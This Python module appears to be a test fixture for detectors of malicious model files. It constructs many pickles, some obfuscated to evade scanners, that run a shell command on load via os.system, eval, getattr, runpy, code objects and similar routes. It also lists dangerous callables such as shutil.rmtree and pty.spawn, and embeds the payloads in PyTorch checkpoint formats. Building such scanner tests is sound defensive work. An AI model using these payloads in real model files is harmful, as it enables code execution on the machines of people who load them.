"""Pickles that run a shell command when they are loaded, in every way that was thought of, and files that hold them."""

import io
import marshal
import pickle
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

MAGIC = 0x1950A86A20F9469CFC6C  # begins a file of torch.save before its archives


class Call:
    """An object that calls something when it is unpickled."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> Any:
        return self.call


def text(value: str) -> bytes:
    """Push a text."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def data(value: bytes) -> bytes:
    """Push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """Push what a module has under a name."""
    return b"c" + f"{module}\n{attribute}\n".encode()


def call(function: bytes, *args: bytes) -> bytes:
    """Push what a call returns."""
    return function + b"(" + b"".join(args) + b"tR"


def stacked(module: bytes, attribute: bytes) -> bytes:
    """Push what a module has under a name, both from the stack."""
    return module + attribute + b"\x93"


def head(protocol: int = 4) -> bytes:
    """Begin a pickle."""
    return b"\x80" + bytes([protocol])


def python(command: str) -> str:
    """Return an expression of Python that runs a command."""
    return f"__import__('os').system({command!r})"


# Command → pickle. Each runs it when it is unpickled.
RUNS: dict[str, Callable[[str], bytes]] = {
    **{f"reduce in protocol {n}": lambda c, n=n: pickle.dumps(Call(subprocess.getoutput, c), n) for n in range(6)},
    "os in protocol 0": lambda c: f"cos\nsystem\n(S'{c}'\ntR.".encode(),
    "posix": lambda c: head() + call(name("posix", "system"), text(c)) + b".",
    "eval": lambda c: head() + call(name("builtins", "eval"), text(python(c))) + b".",
    "exec": lambda c: head() + call(name("builtins", "exec"), text(python(c))) + b".",
    "eval of Python 2": lambda c: head(2) + call(name("__builtin__", "eval"), text(python(c))) + b".",
    "stack global": lambda c: head() + call(stacked(text("os"), text("system")), text(c)) + b".",
    "stack global from the memo": lambda c: (
        head() + text("system") + b"q\x070" + text("os") + b"q\x060" + call(b"h\x06h\x07\x93", text(c)) + b"."
    ),
    "memo written twice": lambda c: (
        head()
        + text("list")
        + b"q\x010"
        + text("system")
        + b"q\x010"
        + call(stacked(text("os"), b"h\x01"), text(c))
        + b"."
    ),
    "memoize counts what is put": lambda c: (
        head() + text("x") + b"q\x050" + text("system") + b"\x940" + call(stacked(text("os"), b"h\x01"), text(c)) + b"."
    ),
    "dup and pop": lambda c: head() + text("os") + b"20" + call(text("system") + b"20\x93", text(c)) + b".",
    "escapes in protocol 0": lambda c: b"V\\u006fs\nV\\u0073ystem\n\x93(" + text(c) + b"tR.",
    "computed name": lambda c: (
        head()
        + call(stacked(text("os"), call(name("builtins", "str"), data(b"system"), text("ascii"))), text(c))
        + b"."
    ),
    "dotted name": lambda c: head() + call(stacked(text("posixpath"), text("os.system")), text(c)) + b".",
    "dotted name of what models use": lambda c: (
        head()
        + call(
            call(
                name("builtins", "getattr"),
                call(stacked(text("collections"), text("_sys.modules.get")), text("os")),
                text("system"),
            ),
            text(c),
        )
        + b"."
    ),
    "getattr": lambda c: (
        head()
        + call(
            call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("system")), text(c)
        )
        + b"."
    ),
    "importlib and operator": lambda c: (
        head()
        + call(
            call(name("operator", "methodcaller"), text("system"), text(c)),
            call(name("importlib", "import_module"), text("os")),
        )
        + b"."
    ),
    "attrgetter": lambda c: (
        head()
        + call(
            call(
                call(name("operator", "attrgetter"), text("system")),
                call(name("importlib", "import_module"), text("os")),
            ),
            text(c),
        )
        + b"."
    ),
    "partial": lambda c: head() + call(name("functools", "partial"), name("os", "system"), text(c)) + b")R.",
    "map": lambda c: (
        head()
        + call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), text(c) + b"\x85"))
        + b"."
    ),
    "runpy": lambda c: (
        head()
        + call(
            name("runpy", "_run_code"),
            call(name("builtins", "compile"), text(python(c)), text("x"), text("exec")),
            b"}",
        )
        + b"."
    ),
    "timeit": lambda c: (
        head() + call(name("timeit", "timeit"), text(python(c)), text("pass"), name("time", "time"), b"K\x01") + b"."
    ),
    "profile": lambda c: head() + call(name("cProfile", "run"), text(python(c))) + b".",
    "debugger": lambda c: (
        head()
        + call(name("bdb", "Bdb"))
        + b"\x940"
        + call(stacked(text("bdb"), text("Bdb.run")), b"h\x00", text(python(c)))
        + b"."
    ),
    "interpreter": lambda c: (
        head()
        + call(name("code", "InteractiveInterpreter"))
        + b"\x940"
        + call(stacked(text("code"), text("InteractiveInterpreter.runcode")), b"h\x00", text(python(c)))
        + b"."
    ),
    "code objects": lambda c: (
        head()
        + call(
            call(
                name("types", "FunctionType"),
                call(name("marshal", "loads"), data(marshal.dumps(compile(python(c), "x", "eval")))),
                b"}",
            )
        )
        + b"."
    ),
    "nested pickle": lambda c: head() + call(name("pickle", "loads"), data(RUNS["posix"](c))) + b".",
    "nested pickle in C": lambda c: head() + call(name("_pickle", "loads"), data(RUNS["posix"](c))) + b".",
    "extension registry": lambda c: (
        head()
        + call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\x37")
        + b"0"
        + call(b"\x82\x37", text(c))
        + b"."
    ),
    "setstate": lambda c: (
        head()
        + call(name("types", "SimpleNamespace"))
        + b"}"
        + text("__setstate__")
        + name("os", "system")
        + b"sb"
        + text(c)
        + b"b."
    ),
    "inst": lambda c: f"(S'{c}'\nios\nsystem\n.".encode(),
    "obj": lambda c: f"(cos\nsystem\nS'{c}'\no.".encode(),
    "newobj": lambda c: (
        head()
        + name("builtins", "tuple")
        + name("builtins", "map")
        + name("os", "system")
        + text(c)
        + b"\x85\x86\x81\x85\x81."
    ),
    "before a persistent id": lambda c: head() + call(name("os", "system"), text(c)) + b"Q.",
    "no end": lambda c: head() + call(name("os", "system"), text(c)),
    "damage behind it": lambda c: head() + call(name("os", "system"), text(c)) + b"\xff\xff",
    "name beyond ascii behind it": lambda c: head() + call(name("os", "system"), text(c)) + name("os", "é") + b".",
    "in a frame": lambda c: head() + b"\x95\x05\0\0\0\0\0\0\0" + call(name("os", "system"), text(c)) + b".",
    "codecs": lambda c: head() + call(name("codecs", "open"), text(c.split()[-1]), text("w")) + b".",
    "path": lambda c: (
        head()
        + call(stacked(text("pathlib"), text("Path.touch")), call(name("pathlib", "Path"), text(c.split()[-1])))
        + b"."
    ),
}

# The same, of which the command does not run on every machine, or not without more.
NAMES: dict[str, bytes] = {
    "nt": head() + call(name("nt", "system"), text("x")) + b".",
    "webbrowser": head() + call(name("webbrowser", "open"), text("x")) + b".",
    "torch.load": head() + call(name("torch", "load"), text("x")) + b".",
    "torch.serialization.load": head() + call(name("torch.serialization", "load"), text("x")) + b".",
    "torch.hub": head() + call(name("torch.hub", "load"), text("x"), text("y")) + b".",
    "torch's storages": head() + call(name("torch.storage", "_load_from_bytes"), data(b"x")) + b".",
    "torch.jit": head() + call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), text("x"), b"}}") + b".",
    "numpy.load": head() + call(name("numpy", "load"), text("x")) + b".",
    "numpy.f2py": head() + call(name("numpy.f2py.crackfortran", "myeval"), text("x")) + b".",
    "pandas": head() + call(name("pandas", "read_pickle"), text("x")) + b".",
    "joblib": head() + call(name("joblib", "load"), text("x")) + b".",
    "pip": head() + call(name("pip", "main"), text("x") + b"\x85") + b".",
    "ctypes": head() + call(name("ctypes", "CDLL"), text("x")) + b".",
    "pty": head() + call(name("pty", "spawn"), text("x")) + b".",
    "pydoc": head() + call(name("pydoc", "pipepager"), text("x"), text("y")) + b".",
    "socket": head() + call(name("socket", "create_connection"), text("x")) + b".",
    "shutil": head() + call(name("shutil", "rmtree"), text("x")) + b".",
    "asyncio": head() + call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), text("x")) + b".",
    "extension of another": head() + b"\x83\x01\x02" + b"(tR.",
}


def wrap_archive(payload: bytes, member: str = "data.pkl") -> bytes:
    """Return what torch.save writes today, with a pickle of ours as one of its members."""
    saved, wrapped = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, saved)
    with zipfile.ZipFile(saved) as source, zipfile.ZipFile(wrapped, "w") as target:
        root = source.namelist()[0].partition("/")[0]
        for each in source.infolist():
            if each.filename != f"{root}/{member}":
                target.writestr(each.filename, source.read(each))
        target.writestr(f"{root}/{member}", payload)
    return wrapped.getvalue()


def wrap_legacy(payload: bytes) -> bytes:
    """Return what torch.save wrote before 1.6, with a pickle of ours as its object."""
    before = [pickle.dumps(value, 2) for value in (MAGIC, 1001, {"little_endian": True, "type_sizes": {}})]
    return b"".join([*before, payload, pickle.dumps([], 2)])


# What a payload may stand in.
FILES: dict[str, Callable[[bytes], bytes]] = {"model.pkl": bytes, "model.pt": wrap_archive, "old.pt": wrap_legacy}


def write_all(folder: Path, canary: Path) -> list[Path]:
    """Write every payload in every kind of file; each would make the canary."""
    paths = []
    payloads = {**{key: make(f"touch {canary}") for key, make in RUNS.items()}, **NAMES}
    for number, payload in enumerate(payloads.values()):
        for file, wrap in FILES.items():
            paths.append(folder / f"{number}_{file}")
            paths[-1].write_bytes(wrap(payload))
    return paths
